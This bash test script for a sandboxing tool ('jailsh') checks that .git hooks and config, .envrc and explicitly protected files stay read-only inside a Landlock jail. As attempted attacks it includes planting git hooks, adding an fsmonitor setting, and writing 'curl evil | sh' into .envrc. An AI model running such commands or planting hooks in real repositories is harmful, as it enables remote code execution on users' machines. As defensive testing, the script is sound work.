#!/bin/bash
# protect_paths.sh - protected paths inside a writable root stay read-only:
# .git (hooks, config, the whole directory), .envrc, --protect PATH and
# JAIL_PROTECT, renames of the protected path and of its parents, writes
# through a symlink, git worktrees; git itself keeps working; --write of a
# protected path grants it; a nested jailsh keeps the protection. Every
# refusal has a positive control and is checked on the host.
. "$(dirname "$0")/../lib.sh"
t_require_landlock
command -v git >/dev/null || { t_skip "all" "git is not installed"; t_done; exit $?; }

export HOME=$T/home GIT_CONFIG_NOSYSTEM=1
mkdir -p "$HOME" "$T/work/sub/deep" "$T/work/other"
g() { git -c user.email=t@example.com -c user.name=t -c init.defaultBranch=main "$@"; }
(cd "$T/work" && g init -q . && echo x >tracked && g add tracked && g commit -q -m init) || t_fail "setup: git repo"
echo 'export A=1' >"$T/work/.envrc"
echo s >"$T/work/sub/deep/secret"
jw() { (cd "$T/work" && "$JAILSH" "$@"); }
absent() { if [ -e "$2" ]; then t_fail "$1" "$2 exists"; else t_pass "$1"; fi; }
same() { if [ "$(cat "$2")" = "$3" ]; then t_pass "$1"; else t_fail "$1" "$2 holds: $(cat "$2")"; fi; }

# Positive controls: the writable root itself is writable, also unjailed.
expect_status 0 "control: a new file in the writable root" jw -c 'echo y >newfile'
expect_status 0 "control: unjailed, a hook can be written" sh -c "cp -r '$T/work/.git' '$T/copy.git' && echo x >'$T/copy.git/hooks/post-checkout'"

# .git: hooks, config, new names in it, the whole directory.
run jw -c 'echo "#!/bin/sh" >.git/hooks/post-checkout'
absent "a git hook cannot be planted" "$T/work/.git/hooks/post-checkout"
cfg=$(cat "$T/work/.git/config")
run jw -c 'printf "[core]\n\tfsmonitor = /bin/false\n" >>.git/config'
same ".git/config cannot be changed" "$T/work/.git/config" "$cfg"
run jw -c 'mkdir .git/hooks2'
absent "no new directory inside .git" "$T/work/.git/hooks2"
case $ERR in *"creating $T/work/.git/hooks2 (inside the protected path $T/work/.git"*"grant it with --write $T/work/.git"*)
	t_pass "... and the refusal names .git as what to grant" ;;
*) t_fail "... and the refusal names .git as what to grant" "$ERR" ;; esac
run jw -c 'mv .git/hooks .git/hooks.old'
absent ".git/hooks cannot be renamed" "$T/work/.git/hooks.old"
run jw -c 'mv .git moved.git'
absent ".git cannot be renamed away" "$T/work/moved.git"
run jw -c 'rm -rf .git'
[ -f "$T/work/.git/HEAD" ] && t_pass ".git cannot be removed" || t_fail ".git cannot be removed"

# A writable symlink to the protected directory does not help.
expect_status 0 "control: writing through a symlink to a plain directory" jw -c 'ln -s other L1 && echo y >L1/f'
run jw -c 'ln -s .git/hooks L2 && echo x >L2/pre-commit'
absent "a hook planted through a symlink is refused" "$T/work/.git/hooks/pre-commit"

# .envrc (a default name) and an explicit --protect path with its parents.
run jw -c 'echo "curl evil | sh" >.envrc'
same ".envrc cannot be changed" "$T/work/.envrc" 'export A=1'
expect_status 0 "control: without --protect, sub/deep/secret is writable" jw -c 'echo t >sub/deep/secret2'
run jw --protect sub/deep/secret -c 'echo evil >sub/deep/secret'
same "--protect: the file cannot be changed" "$T/work/sub/deep/secret" s
run jw --protect sub/deep/secret -c 'mv sub sub.old && mkdir -p sub/deep && echo evil >sub/deep/secret'
absent "--protect: its parent directory cannot be renamed away" "$T/work/sub.old"
same "--protect: still the original file" "$T/work/sub/deep/secret" s
run sh -c "cd '$T/work' && JAIL_PROTECT=sub/deep/secret '$JAILSH' -c 'echo evil >sub/deep/secret'"
same "JAIL_PROTECT works like --protect" "$T/work/sub/deep/secret" s

# git keeps working for the usual read-only uses.
expect_stdout "git describe works in the jail" "$(cd "$T/work" && git describe --always)" jw -c 'git describe --always'
expect_status 0 "git status works in the jail" jw -c 'git status --short'

# The grant: --write of the protected path (with the root) opens it.
expect_status 0 "--write .git grants writing inside .git" jw --write . --write .git -c 'echo y >.git/jail-granted'
[ -f "$T/work/.git/jail-granted" ] && t_pass "the granted write reached the host" || t_fail "the granted write reached the host"
rm -f "$T/work/.git/jail-granted"

# Worktrees: .git is a file; its gitdir and the common dir stay protected.
(cd "$T/work" && g worktree add -q "$T/wt" 2>/dev/null) || t_fail "setup: worktree"
run sh -c "cd '$T/wt' && '$JAILSH' --write '$T/wt' --write '$T/work' -c 'echo x >\"$T/work/.git/worktrees/wt/evil\"; echo x >\"$T/work/.git/hooks/post-commit\"'"
absent "worktree: its gitdir is protected" "$T/work/.git/worktrees/wt/evil"
absent "worktree: the common dir's hooks are protected" "$T/work/.git/hooks/post-commit"
expect_status 0 "worktree: git status works in the jail" sh -c "cd '$T/wt' && '$JAILSH' -c 'git status --short'"

# A jailsh inside a jail: no new namespace, the outer view still protects.
expect_status 0 "nested: the inner jail runs and writes its root" jw -c "'$JAILSH' -c 'echo n >nested'"
run jw -c "'$JAILSH' -c 'echo x >.git/hooks/post-merge'"
absent "nested: .git stays protected" "$T/work/.git/hooks/post-merge"

# Names that do not exist are guarded against creation (protect_create.sh).
expect_stdout "print-policy names absent protected names as guarded" "yes" \
	sh -c "cd '$T/work' && '$JAILSH' --print-policy | grep -q 'not present, guarded against creation' && echo yes"
t_done
